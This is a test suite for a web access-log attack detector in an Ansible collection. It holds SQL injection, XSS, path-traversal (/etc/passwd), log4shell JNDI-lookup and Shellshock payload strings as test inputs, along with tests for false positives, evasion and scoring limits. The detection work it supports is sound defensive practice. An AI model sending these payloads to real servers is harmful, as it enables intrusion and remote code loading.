# Copyright: fleetcare.maintenance contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
from __future__ import annotations

import itertools
import re
from pathlib import Path

import pytest

from ansible_collections.fleetcare.maintenance.plugins.module_utils.logs.access import attacks
from ansible_collections.fleetcare.maintenance.plugins.module_utils.logs.access.attacks import Judge
from ansible_collections.fleetcare.maintenance.plugins.module_utils.logs.access.rules.rule import CLASSES
from ansible_collections.fleetcare.maintenance.plugins.module_utils.logs.access.scoring import Scorer

FIXTURES = Path(__file__).parent / "fixtures"
PAGE = Path(__file__).parents[5] / "docs" / "logs.md"
#: What must be found of each class, and how many ordinary requests may be taken for attacks, by paranoia level.
LEAST_SHARE = 0.98
MOST_FALSE = {1: 2, 2: 5, 3: 8}


def rows(name: str) -> list[list[str]]:
    lines = (FIXTURES / name).read_text(encoding="utf-8").splitlines()
    return [text.split("\t") for text in lines if not text.startswith("#")]


def found(paranoia: int) -> tuple[dict[str, list[int]], int, int]:
    """By class how many there are and how many are found as such; ordinary requests, and those taken for attacks."""
    judge = Judge(paranoia=paranoia)
    classes = {kind: [0, 0] for kind in CLASSES}
    for kind, status, target in rows("attacks.tsv"):
        classes[kind][0] += 1
        classes[kind][1] += judge.judge(target.encode(), status=status).attack
    ordinary = rows("ordinary.tsv")
    false = sum(judge.judge(target.encode(), status=status).attack for status, target in ordinary)
    return classes, len(ordinary), false


def table() -> str:
    """Precision and recall as docs/logs.md has them."""
    lines = ["| class | requests | found, level 1 | level 2 | level 3 |", "|---|---|---|---|---|"]
    figures = {level: found(level) for level in (1, 2, 3)}
    for kind in CLASSES:
        shares = " | ".join(str(figures[level][0][kind][1]) for level in (1, 2, 3))
        lines.append(f"| {kind} | {figures[1][0][kind][0]} | {shares} |")
    total = sum(figures[1][0][kind][0] for kind in CLASSES)
    hits = {level: sum(pair[1] for pair in figures[level][0].values()) for level in (1, 2, 3)}
    lines.append(f"| all | {total} | " + " | ".join(str(hits[level]) for level in (1, 2, 3)) + " |")
    lines.append(
        f"| ordinary, taken for attacks | {figures[1][1]} | "
        + " | ".join(str(figures[at][2]) for at in (1, 2, 3))
        + " |"
    )
    return "\n".join(lines)


@pytest.mark.parametrize("level", [1, 2, 3])
def test_labelled_requests_are_told_apart(level: int) -> None:
    classes, ordinary, false = found(level)

    assert sum(pair[0] for pair in classes.values()) > 400
    assert ordinary > 400
    assert {kind: pair for kind, pair in classes.items() if pair[1] < LEAST_SHARE * pair[0]} == {}
    assert false <= MOST_FALSE[level]


def test_the_page_has_the_figures_of_this_table() -> None:
    assert table() in PAGE.read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "target",
    [
        "/selected-plans?dropdown=1",
        "/search?q=union+station",
        "/users?name=O%27Brien",
        "/search?q=1%3D1+in+mathematics",
        "/search?q=how+to+use+%3Cb%3E+in+html",
    ],
)
def test_what_the_guides_grep_would_flag_or_people_write_is_ordinary(target: str) -> None:
    assert not Judge(paranoia=2).judge(target.encode(), status="200").attack


@pytest.mark.parametrize(
    ("target", "kind"),
    [
        ("/books/1%20%55nion%20%53elect%20password%20from%20users--", "sqli"),
        ("/login?user=admin%27%20or%201=1--", "sqli"),
        ("/x?q=%2527%2520or%25201%253D1--", "sqli"),
        ("/x?q=1/*!50000union*//**/select/**/1,2", "sqli"),
        (r"/x?q=\x22><script>alert(1)</script>", "xss"),
        ("/x?q=&lt;script&gt;alert(1)&lt;/script&gt;", "xss"),
        ("/x?q=%uff1cscript%uff1ealert(1)", "xss"),
        ("/x/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "traversal"),
        ("/?x=${${lower:j}ndi:ldap://198.51.100.9/a}", "log4shell"),
    ],
)
def test_wrapping_does_not_hide_an_attack(target: str, kind: str) -> None:
    assert kind in Judge().judge(target.encode(), status="200").kinds


def test_a_scanner_path_counts_only_where_there_is_nothing() -> None:
    judge = Judge()

    assert judge.judge(b"/wp-login.php", status="404").attack
    assert not judge.judge(b"/wp-login.php", status="200").attack


def test_an_allowed_route_is_not_looked_at_for_the_classes_named() -> None:
    judge = Judge(allowed=[("GET /api/query*", frozenset({"sqli"}))])

    assert not judge.judge(b"/api/query?q=1+union+select+1,2", status="200", route="GET /api/query").attack
    assert judge.judge(b"/api/query?q=<script>alert(1)</script>", status="200", route="GET /api/query").attack
    assert judge.judge(b"/other?q=1+union+select+1,2", status="200", route="GET /other").attack


@pytest.mark.parametrize("rule", ["tautology", "having", "steps"])
def test_no_rule_begins_anew_at_each_of_many_parentheses_or_points(rule: str) -> None:
    expressions = [one.pattern for one in _rules() if one.name == rule]

    assert expressions
    assert not [text for text in expressions if re.search(r"\\[.)](?:\*|\+|\{\d+,\})", text.partition("(?:or")[0])]


@pytest.mark.parametrize("target", ["/x?pad={}&q=1'+or+1=1--", "/{}?q=1'+or+1=1--", "/x?q=1'+or+1=1--&pad={}"])
def test_a_long_part_does_not_hide_what_stands_behind_it(target: str) -> None:
    assert "sqli" in Judge().judge(target.format("a" * 30_000).encode(), status="200").kinds


def test_what_is_scored_of_a_target_has_an_end(monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[int] = []
    decoded = attacks.decode
    monkeypatch.setattr(attacks, "decode", lambda raw, plus: (seen.append(len(raw)), decoded(raw, plus=plus))[1])

    Judge().judge(b"/" + b"&a=".join([b"?'" * 1500] * 20), status="200")

    assert 3000 < sum(seen) <= 4096


def test_scoring_ends_when_its_budget_is_spent_and_is_told() -> None:
    now = itertools.count()
    scorer = Scorer(Judge(), seconds=2.5, clock=lambda: next(now))

    verdicts = [scorer.judge(b"/?q=1'+or+1=1--", status="200", route="", method="GET").attack for _turn in range(5)]
    ordinary = scorer.judge(b"/", status="200", route="", method="GET")

    assert verdicts == [True, True, True, False, False]
    assert (scorer.unscored, ordinary.attack) == (2, False)


@pytest.mark.parametrize(
    "agent", ["sqlmap/1.7", "Mozilla/5.0 (compatible; Nmap Scripting Engine)", "() { :;}; /bin/id"]
)
def test_scanners_say_who_they_are(agent: str) -> None:
    assert Judge().judge_agent(agent.encode()).attack


def test_browsers_are_no_scanners() -> None:
    agent = b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"

    assert not Judge(paranoia=3).judge_agent(agent).attack


def test_every_rule_is_of_a_class_that_is_told() -> None:
    names = [(rule.kind, rule.name) for rule in _rules()]

    assert len(set(names)) == len(names)
    assert {kind for kind, _name in names} == set(CLASSES)
    assert all(re.compile(rule.pattern) for rule in _rules())


def _rules() -> tuple:
    from ansible_collections.fleetcare.maintenance.plugins.module_utils.logs.access.rules.table import RULES

    return tuple(RULES)
